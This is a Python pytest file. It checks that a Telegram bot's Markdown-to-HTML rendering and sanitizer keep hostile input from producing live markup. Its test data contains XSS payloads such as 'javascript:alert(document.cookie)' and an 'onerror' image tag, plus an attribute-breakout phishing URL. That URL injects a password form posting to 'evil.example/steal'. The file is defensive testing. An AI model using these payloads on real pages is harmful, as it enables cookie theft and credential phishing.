"""Model Markdown becomes Telegram HTML that Telegram's own parser (tgsim's TDLib port) accepts."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import Any

import pytest
from aiogram.types import Message
from tgsim.formatting import format_text

from handlers.media import html_text
from services.render import SAFE_TAGS, markdown_to_html, sanitize_html, split_html
from tests.conftest import ROOT


def telegram_sees(html: str) -> str:
    """The text Telegram shows for this HTML; raises the error Telegram would give."""
    return str(format_text(html, "HTML", None, limit=4096, too_long="message is too long", empty="empty")[0])


@pytest.mark.parametrize("hostile", [
    "<b>unclosed", "a < b > c & d", "&amp; &lt; &#x27;", "**bold *nested* bold**", "`code with <tags>`",
    "[x](javascript:alert(1))", '[q](https://e.com/"onmouseover=")', "<pre>raw</pre>", "___***~~~```",
    "# heading <i>\n\n> quote & </blockquote>", "- a\n  - b\n    - c <", "| a | <b> |\n|---|---|\n| & | x |",
    "![img](https://e.com/i.png)", "line\\\nbreak", "\x00 null and \ufeff bom",
])
def test_anything_a_model_writes_renders_to_html_telegram_accepts(hostile: str) -> None:
    shown = telegram_sees(markdown_to_html(hostile))
    assert "<b>" not in shown or "<b>" in hostile  # tags are shown only when the model wrote them as text


def test_unsafe_links_stay_text_and_safe_links_become_links() -> None:
    html = markdown_to_html("[ok](https://example.com/?a=1&b=2) [no](javascript:alert(1)) [nor](ftp://example.com/f)")
    assert '<a href="https://example.com/?a=1&amp;b=2">ok</a>' in html
    assert html.count("<a ") == 1  # only the safe one is a link
    assert "javascript:" not in html.split("[no](")[0]  # shown as the text the model wrote, after the link
    assert "ftp:" not in html
    assert "nor" in telegram_sees(html)


def test_split_keeps_every_part_valid_and_loses_nothing() -> None:
    code = "```\n" + "\n".join(f"line {n} < {n + 1} & more" for n in range(400)) + "\n```"
    markdown = "Intro **bold text that is long** " * 40 + "\n\n" + code
    html = markdown_to_html(markdown)
    parts = split_html(html)
    assert len(parts) >= 3
    shown = [telegram_sees(part) for part in parts]
    assert all(len(text) <= 4096 for text in shown)
    assert "".join(shown).replace("\n", "").replace(" ", "") == telegram_sees_unlimited(html)


def telegram_sees_unlimited(html: str) -> str:
    text = str(format_text(html, "HTML", None, limit=10**9, too_long="", empty="empty")[0])
    return text.replace("\n", "").replace(" ", "")


def test_split_counts_utf16_units_like_telegram() -> None:
    emoji_text = "😀" * 3000  # 6000 UTF-16 units
    parts = split_html(emoji_text)
    assert len(parts) == 2
    assert all(len(part.encode("utf-16-le")) // 2 <= 4096 for part in parts)


# --- HTML from elsewhere: a manager's message ---------------------------------------------------------

PHISHING_URL = ('https://evil.example/"><form action="https://evil.example/steal"><input name="password">'
                '<button>Sign in</button></form><a href="https://evil.example/')
HOSTILE_LANGUAGE = 'x"><img src=x onerror=alert(1)><form id="injected"></form><a href="https://evil.example/'


def telegram_message(text: str, entities: list[dict[str, Any]]) -> Message:
    return Message.model_validate({"message_id": 1, "date": 0, "chat": {"id": 1, "type": "private"}, "text": text,
                                   "entities": entities})


class _Tags(HTMLParser):
    def __init__(self, markup: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(markup)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def test_a_managers_hostile_link_and_code_language_stay_inside_their_attributes() -> None:
    text = "Sign in here, or there, then run this"
    message = telegram_message(text, [
        {"type": "text_link", "offset": 8, "length": 4, "url": PHISHING_URL},
        {"type": "text_link", "offset": 17, "length": 5, "url": "javascript:alert(document.cookie)"},
        {"type": "pre", "offset": 33, "length": 4, "language": HOSTILE_LANGUAGE},
    ])
    stored = sanitize_html(html_text(message))
    tags = _Tags(stored).tags
    assert [tag for tag, _ in tags] == ["a", "pre", "code"]  # no form, input, button, img or second link
    assert tags[0][1] == {"href": PHISHING_URL}  # the address the manager gave, as an address
    assert tags[2][1] == {}  # a language that is not a language is dropped
    shown, entities = format_text(stored, "HTML", None, limit=4096, too_long="long", empty="empty")
    assert shown == text  # Telegram accepts it, and shows what the manager wrote
    assert entities[0] == {"type": "text_link", "offset": 8, "length": 4, "url": PHISHING_URL}
    assert [entity["type"] for entity in entities][1:] == ["code", "pre"]  # the javascript: link is text
    assert sanitize_html(stored) == stored


def test_a_managers_formatting_survives_as_telegram_sent_it() -> None:
    text = "Bold, a link, code, a secret, Python and a quote"
    entities = [
        {"type": "bold", "offset": 0, "length": 4},
        {"type": "text_link", "offset": 8, "length": 4, "url": "https://shop.example/menu?a=1&b=2"},
        {"type": "code", "offset": 14, "length": 4},
        {"type": "spoiler", "offset": 22, "length": 6},
        {"type": "pre", "offset": 30, "length": 6, "language": "python"},
        {"type": "expandable_blockquote", "offset": 41, "length": 7},
    ]
    stored = sanitize_html(html_text(telegram_message(text, entities)))
    # Sent back to Telegram, it is the same text with the same entities.
    assert format_text(stored, "HTML", None, limit=4096, too_long="long", empty="empty") == (text, entities)


def test_html_stored_before_it_was_cleaned_shows_no_injected_element() -> None:
    """Rows aiogram's html_text wrote: the attribute was broken open, and what it let in goes."""
    old = telegram_message("Sign in here", [{"type": "text_link", "offset": 8, "length": 4, "url": PHISHING_URL}])
    shown = sanitize_html(old.html_text)
    tags = _Tags(shown).tags
    assert {tag for tag, _ in tags} <= {"a"}
    assert all(str(attrs.get("href")).startswith("https://") for _, attrs in tags)
    assert sanitize_html('<a href="//evil.example/">x</a> <a href="javascript:alert(1)">y</a> a\u00a0b') == \
        "x y a\u00a0b"


def test_the_widget_allows_the_same_tags_as_the_server() -> None:
    script = (ROOT / "webapp_static" / "widget.js").read_text()
    listed = re.search(r"var SAFE_TAGS = \{(.*?)\};", script, re.DOTALL)
    assert listed is not None
    assert {name.strip().strip('"').lower() for name in re.findall(r'([\w"-]+): 1', listed.group(1))} == SAFE_TAGS
